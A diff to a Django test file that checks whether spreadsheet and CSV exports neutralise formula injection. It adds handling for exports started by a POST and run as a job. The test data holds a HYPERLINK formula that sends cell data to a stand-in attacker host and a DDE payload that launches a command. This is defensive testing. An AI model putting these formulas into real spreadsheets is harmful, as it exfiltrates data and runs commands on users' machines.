@@ -11,6 +11,7 @@ from django.test import Client
 from openpyxl import load_workbook
 
 from bangkom.accounts.tests.test_role_matrix import MATRIX, POST_ONLY, urls  # noqa: F401 - the fixture
+from bangkom.core.tests.exports import content_of, exported
 from bangkom.core.xlsx import FORMULA_STARTS, data_row, neutralised
 from bangkom.people.models import Employee, Unit
 from bangkom.planning.models import PlanItem
@@ -19,6 +20,7 @@ from bangkom.selection.screening_output import csv_text
 pytestmark = pytest.mark.django_db
 HYPERLINK = '=HYPERLINK("http://penyerang.example/?d="&A2,"Klik")'
 NAMES_PEOPLE_OR_ITEMS = {"export", "planning_plan_xlsx"}
+EXPORT_STARTS = {"export", "planning_jp_xlsx"}
 SPREADSHEETS = ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "text/csv")
 
 
@@ -56,16 +58,19 @@ def test_every_spreadsheet_export_holds_hostile_text_as_text(users, urls) -> Non
     PlanItem.objects.update(title="@SUM(1+1)*cmd|' /C calc'!A0")
     client = Client()
     client.force_login(users["admin"])
-    exported = []
+    seen = []
     for name, url in urls.items():
-        if name in POST_ONLY or MATRIX.get(name, (0,))[0] != 200:
+        if name in EXPORT_STARTS:  # started by a POST, made by a job, fetched from the job's page
+            response = exported(client, url)[1]
+        elif name in POST_ONLY or MATRIX.get(name, (0,))[0] != 200:
             continue
-        response = client.get(url)
+        else:
+            response = client.get(url)
         kind = response.get("Content-Type", "").split(";")[0]
         if response.status_code != 200 or kind not in SPREADSHEETS:
             continue
-        content = b"".join(response.streaming_content) if response.streaming else response.content
-        exported.append(name)
+        content = content_of(response)
+        seen.append(name)
         if kind == "text/csv":
             cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
         else:
@@ -79,7 +84,7 @@ def test_every_spreadsheet_export_holds_hostile_text_as_text(users, urls) -> Non
         assert not [c for c in cells if _live(c)], name
         if name in NAMES_PEOPLE_OR_ITEMS:  # the hostile text is there, as text
             assert any(isinstance(c, str) and c.startswith("'") for c in cells), name
-    assert {"export", "planning_plan_xlsx", "planning_evaluation_xlsx", "planning_jp_xlsx"} <= set(exported)
+    assert {"export", "planning_plan_xlsx", "planning_evaluation_xlsx", "planning_jp_xlsx"} <= set(seen)
 
 
 def test_screening_csv_neutralises_names() -> None:
@@ -98,8 +103,7 @@ def test_every_sheet_is_laid_out_for_reading_and_printing(users, people) -> None
 
     client = Client()
     client.force_login(users["admin"])
-    response = client.get(reverse("people:export"))
-    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    workbook = load_workbook(io.BytesIO(content_of(exported(client, reverse("people:export"))[1])))
     sheet = workbook.active
     assert sheet.freeze_panes == "A2"
     assert sheet.auto_filter.ref == "A1:O4"  # 15 columns, the header and 3 employees
